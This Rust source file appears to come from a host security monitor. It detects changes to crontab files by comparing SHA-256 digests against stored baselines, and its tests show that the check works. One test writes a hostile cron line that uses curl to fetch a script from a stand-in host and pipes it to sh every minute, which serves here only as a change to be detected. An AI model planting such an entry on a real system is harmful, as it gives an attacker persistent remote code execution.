//! Content integrity of crontab files.

use std::path::PathBuf;

use crate::domain::entities::alert::Alert;
use crate::domain::entities::fingerprint::{content_digest, FingerprintKey};
use crate::domain::ports::store::FingerprintStore;

use super::filesystem;

pub const CRONTAB_NAMESPACE: &str = "crontab_integrity";

/// Compares each crontab file against the SHA-256 digest recorded last time.
///
/// A file seen for the first time only records its baseline. A changed
/// digest is reported and becomes the new baseline.
pub struct CrontabWatch<'a> {
    store: &'a dyn FingerprintStore,
    cron_paths: Vec<PathBuf>,
}

impl<'a> CrontabWatch<'a> {
    #[must_use]
    pub fn new(store: &'a dyn FingerprintStore, cron_paths: Vec<PathBuf>) -> Self {
        Self { store, cron_paths }
    }

    #[must_use]
    pub fn check_integrity(&self) -> Option<Alert> {
        let mut changed = Vec::new();
        let mut baselined = 0usize;

        for root in &self.cron_paths {
            for (path, _) in filesystem::walk_files(root, |_| false) {
                let content = match std::fs::read(&path) {
                    Ok(c) => c,
                    Err(e) => {
                        tracing::debug!(path = %path.display(), "Cannot read crontab: {e}");
                        continue;
                    }
                };

                let display = path.to_string_lossy().into_owned();
                let key = FingerprintKey::for_scope(CRONTAB_NAMESPACE, &display);
                let digest = content_digest(&content);

                match self.store.load_digest(&key) {
                    Some(previous) if previous == digest => continue,
                    Some(_) => changed.push(display),
                    None => baselined += 1,
                }

                if let Err(e) = self.store.store_digest(&key, &digest) {
                    tracing::warn!(path = %path.display(), "Failed to record crontab digest: {e}");
                }
            }
        }

        if baselined > 0 {
            tracing::info!(files = baselined, "Recorded crontab baselines");
        }

        (!changed.is_empty()).then(|| {
            Alert::security("crontab_integrity", "Crontab Content Changed", changed.join("\n"))
        })
    }
}

#[cfg(test)]
#[allow(clippy::expect_used)]
mod tests {
    use super::*;
    use crate::infrastructure::persistence::in_memory_store::InMemoryFingerprintStore;

    #[test]
    fn first_run_records_baseline_silently() {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(dir.path().join("root"), "0 * * * * backup\n").expect("write");
        let store = InMemoryFingerprintStore::new();
        let watch = CrontabWatch::new(&store, vec![dir.path().to_path_buf()]);

        assert!(watch.check_integrity().is_none());
        assert!(watch.check_integrity().is_none());
    }

    #[test]
    fn changed_content_alerts_once() {
        let dir = tempfile::tempdir().expect("tempdir");
        let file = dir.path().join("root");
        std::fs::write(&file, "0 * * * * backup\n").expect("write");
        let store = InMemoryFingerprintStore::new();
        let watch = CrontabWatch::new(&store, vec![dir.path().to_path_buf()]);
        assert!(watch.check_integrity().is_none());

        std::fs::write(&file, "* * * * * curl http://x/p.sh | sh\n").expect("write");
        let alert = watch.check_integrity().expect("change detected");
        assert_eq!(alert.title, "Crontab Content Changed");
        assert!(alert.details.contains("root"));

        assert!(watch.check_integrity().is_none());
    }

    #[test]
    fn missing_paths_are_ignored() {
        let store = InMemoryFingerprintStore::new();
        let watch = CrontabWatch::new(&store, vec![PathBuf::from("/nonexistent/cron.d")]);
        assert!(watch.check_integrity().is_none());
    }
}
